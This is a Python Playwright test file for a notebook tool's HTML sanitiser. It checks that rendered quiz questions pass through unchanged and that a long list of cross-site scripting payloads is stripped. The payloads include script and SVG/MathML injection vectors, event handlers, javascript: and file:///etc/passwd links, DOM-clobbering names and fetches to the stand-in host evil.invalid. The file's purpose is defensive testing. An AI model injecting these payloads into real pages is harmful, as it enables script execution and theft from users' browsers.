# ruff: noqa: E501 (payloads stand on one line)
"""The notebook's own clean-up: what our renderer makes passes as it is, and nothing else does.

`frontend/src/sanitise.js` has an allow-list. It is held against the HTML of every question here, and
against what elements, attributes and addresses of other kinds could do.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from selfcheck import bank, convert
from selfcheck.render import html
from tests.support.moon import MOON
from tests.support.one_of_each import COMMON, QUESTIONS, with_figure
from tests.support.site import served

ROOT = Path(__file__).parents[2]
FOLDERS = (ROOT / "content", MOON / "content")
BANKS = [
    pytest.param(folder, name, id=name) for folder in FOLDERS for name in sorted(bank.names(folder))
]
RICH = r"""
A [link](https://example.org/?a=1&b=2#c), a [part](#part), a [page](01-page.ipynb), <me@example.org>,
![a cell](cell.png), `code < x`, *so* **much** &amp; 3 < 4.

> quoted

1. one
2. two

---

    block

| a | b |
|---|:-:|
| 1 | $\frac{1}{2} \times \sqrt{x_1^2}$ |

$$\sum_{i=1}^n \left( \mathbf{x}_i \right) \; \underbrace{\overline{ab}}$$
"""
SAME = """([html, cleaned]) => {
  const made = document.createElement("template");
  made.innerHTML = html;
  const got = document.createElement("div");
  got.append(window.sanitised(html));
  const wanted = document.createElement("div");
  wanted.append(made.content);
  return [wanted.innerHTML, got.innerHTML, document.importNode(wanted, true).isEqualNode(got)];
}"""
PWN = "window.pwned=1"
ACTIVE = [
    # Elements that run, load, take over the page or ask for something typed.
    f"<script>{PWN}</script>",
    f"<svg><script>{PWN}</script></svg>",
    f"<math><mtext><script>{PWN}</script></mtext></math>",
    f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe>",
    "<object data='https://evil.invalid/x'></object><embed src='https://evil.invalid/x'>",
    "<base href='https://evil.invalid/'><meta http-equiv='refresh' content='0;url=//evil.invalid'>",
    "<link rel='stylesheet' href='https://evil.invalid/x.css'>",
    "<style>@import 'https://evil.invalid/x.css'; * { display: none }</style>",
    "<svg><style>@import 'https://evil.invalid/x.css'</style></svg>",
    "<form action='https://evil.invalid/'><button>send</button><input name='q'></form>",
    f"<video src='//evil.invalid/x' onerror='{PWN}'></video><audio autoplay src='//evil.invalid/x'>",
    f"<template><img src='x' onerror='{PWN}'></template>",
    f"<noscript><p title='</noscript><img src=x onerror={PWN}>'></noscript>",
    f"<xmp><p title='</xmp><img src=x onerror={PWN}>'></xmp>",
    "<portal src='https://evil.invalid'></portal><frameset><frame src='//evil.invalid'></frameset>",
    # Handlers.
    f"<img src='data:,x' onerror='{PWN}'>",
    f"<svg onload='{PWN}'><rect onbegin='{PWN}'/></svg>",
    f"<details open ontoggle='{PWN}'><summary>x</summary></details>",
    f"<p onpointerover='{PWN}' onfocus='{PWN}' tabindex='0' autofocus>x</p>",
    f"<math onmouseover='{PWN}'><mi>x</mi></math>",
    # Addresses.
    f"<a href='javascript:{PWN}'>x</a><a href=' java\tscript:{PWN}'>x</a>",
    f"<a href='&#1;javascript:{PWN}'>x</a><a href='JaVaScRiPt&colon;{PWN}'>x</a>",
    "<a href='data:text/html,<script>1</script>'>x</a><a href='vbscript:x'>x</a>",
    "<a href='blob:x'>x</a><a href='file:///etc/passwd'>x</a>",
    "<a ping='https://evil.invalid/' href='#a'>x</a><a download href='#a'>x</a>",
    "<img src='https://evil.invalid/x.png'><img src='//evil.invalid/x'><img src='\\\\evil.invalid/x'>",
    "<img srcset='https://evil.invalid/x 1x' src='data:image/png;base64,AA=='>",
    f"<img src='data:text/html,<script>{PWN}</script>'>",
    "<table background='https://evil.invalid/x'><tr><td background='//evil.invalid/x'>1</table>",
    # SVG and MathML.
    f"<svg><a href='javascript:{PWN}'><text x='1' y='9'>x</text></a></svg>",
    f"<svg><a xlink:href='javascript:{PWN}'><rect width='9' height='9'/></a></svg>",
    f"<svg><a><animate attributeName='href' values='javascript:{PWN}'/><rect/></a></svg>",
    f"<svg><set attributeName='onload' to='{PWN}'/><animateMotion path='M0 0'/></svg>",
    f"<svg><animateTransform onbegin='{PWN}' attributeName='transform'/></svg>",
    "<svg><use href='https://evil.invalid/x.svg#a'/><use xlink:href='data:image/svg+xml,x#a'/></svg>",
    "<svg><image href='https://evil.invalid/x.png'/><feImage href='//evil.invalid/x'/></svg>",
    f"<svg><foreignObject><img src='x' onerror='{PWN}'></foreignObject></svg>",
    "<svg><rect fill='url(https://evil.invalid/x#a)' stroke='u\\72l(//evil.invalid/x)'/></svg>",
    f"<math href='javascript:{PWN}'><mi href='javascript:{PWN}'>x</mi></math>",
    f"<math><maction actiontype='statusline' xlink:href='javascript:{PWN}'><mi>x</mi></maction></math>",
    "<math><annotation-xml encoding='text/html'><img src='//evil.invalid/x'></annotation-xml></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}></style></mglyph></table></mtext>",
    f"<svg></p><style><a id='</style><img src=x onerror={PWN}>'>",
    # Styles, and what the page itself would take for its own.
    "<p style='background: url(https://evil.invalid/x)'>x</p><p style='position:fixed'>x</p>",
    "<p class='jp-Dialog lm-Widget'>x</p><p class='sc-why jp-Dialog'>x</p>",
    "<p data-commandlinker-command='notebook:delete-cell'>x</p><p contenteditable>x</p>",
    "<img name='body'><form name='cookie'></form><a id='defaultView' name='location' href='#a'>x</a>",
    "<form id='f'><input name='childNodes'><input name='remove'><input name='attributes'></form>",
    "<input form='f' name='removeAttribute'><form id='f'><img name='replaceWith'></form>",
    "<form><input name='localName'><input name='namespaceURI'><img id='nodeType'></form>",
    f"<p is='x-y'>x</p><x-y onclick='{PWN}'>x</x-y><slot name='x'>x</slot>",
    f"<!-- <img src=x onerror={PWN}> --><![CDATA[<img src=x onerror={PWN}>]]><?xml x?>",
]
LEFT = """html => {
  const box = document.createElement("div");
  document.body.replaceChildren(box);
  box.append(window.sanitised(html));
  const found = [];
  for (const each of box.querySelectorAll("*")) {
    found.push(each.localName);
    for (const { name, value } of each.attributes) found.push(`${name}=${value}`);
  }
  return found;
}"""
ELEMENTS = {
    *("script", "iframe", "object", "embed", "base", "meta", "link", "style", "form", "input"),
    *("button", "video", "audio", "template", "animate", "set", "use", "image", "foreignObject"),
    *("slot", "x-y", "maction", "mglyph", "annotation-xml", "portal", "frame", "noscript", "xmp"),
}
PARTS = (
    *("id=", "name=", "style=", "srcset=", "ping=", "xlink", "is=", "background=", "download="),
    *("data-commandlinker", "contenteditable", "tabindex", "autofocus", "class=jp", "jp-Dialog"),
    *("javascript", "vbscript", "data:text", "blob:", "file:", "evil", "url(", "\\"),
)


@pytest.fixture(scope="module")
def clean(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    """A page that has `sanitised` of the front end's source, and nothing else."""
    folder = tmp_path_factory.mktemp("sanitise")
    shutil.copy(ROOT / "frontend/src/sanitise.js", folder)
    (folder / "index.html").write_text("<!DOCTYPE html><link rel='icon' href='data:,'>")
    with served(folder) as address:
        page = browser.new_page()
        page.goto(f"{address}/index.html")
        page.evaluate("import('/sanitise.js').then(all => Object.assign(window, all))")
        yield page
        page.close()


def unchanged(page: Page, made: str) -> None:
    wanted, got, equal = page.evaluate(SAME, [made, ""])
    assert wanted == got
    assert equal


@pytest.mark.parametrize(("content", "name"), BANKS)
def test_every_question_passes_unchanged(clean: Page, content: Path, name: str) -> None:
    unchanged(clean, html(bank.load(name, content), bank.references(content), None, content))


@pytest.mark.parametrize("kind", QUESTIONS)
def test_a_question_of_each_type_with_all_that_markdown_has_passes_unchanged(
    clean: Page, tmp_path: Path, kind: str
) -> None:
    rich = {**COMMON, "prompt": RICH, "explanation": RICH, "hints": [RICH]}
    question = {**rich, "id": "one", "type": kind, **QUESTIONS[kind]}
    data = {"schema": 1, "id": "t", "title": "T", "objectives": {"o": "O"}}
    made = convert.bank({**data, "questions": [question]})
    unchanged(clean, html(made, {}, folder=with_figure(tmp_path)))


@pytest.mark.parametrize("active", ACTIVE)
def test_nothing_else_gets_through(clean: Page, active: str) -> None:
    asked: list[str] = []
    clean.on("request", lambda request: asked.append(request.url))
    left = clean.evaluate(LEFT, f"<p>before</p>{active}<p>after</p>")
    assert left[0] == "p"
    assert not ELEMENTS.intersection(left)
    assert not [each for each in left for part in PARTS if part in each]
    assert not [each for each in left if each.startswith("on")]
    # Whatever would run or be fetched has had its turn once a picture has come.
    clean.evaluate("""() => new Promise(done => {
      const picture = new Image();
      picture.onerror = done;
      picture.src = "data:,x";
    })""")
    assert clean.evaluate("window.pwned") is None
    assert not [url for url in asked if "evil" in url]


def test_the_text_of_an_unknown_element_stays(clean: Page) -> None:
    clean.evaluate(LEFT, "<p>a <u>b <q>c</q></u> <button>d</button></p><center>e</center>")
    assert clean.evaluate("document.body.textContent") == "a b c de"
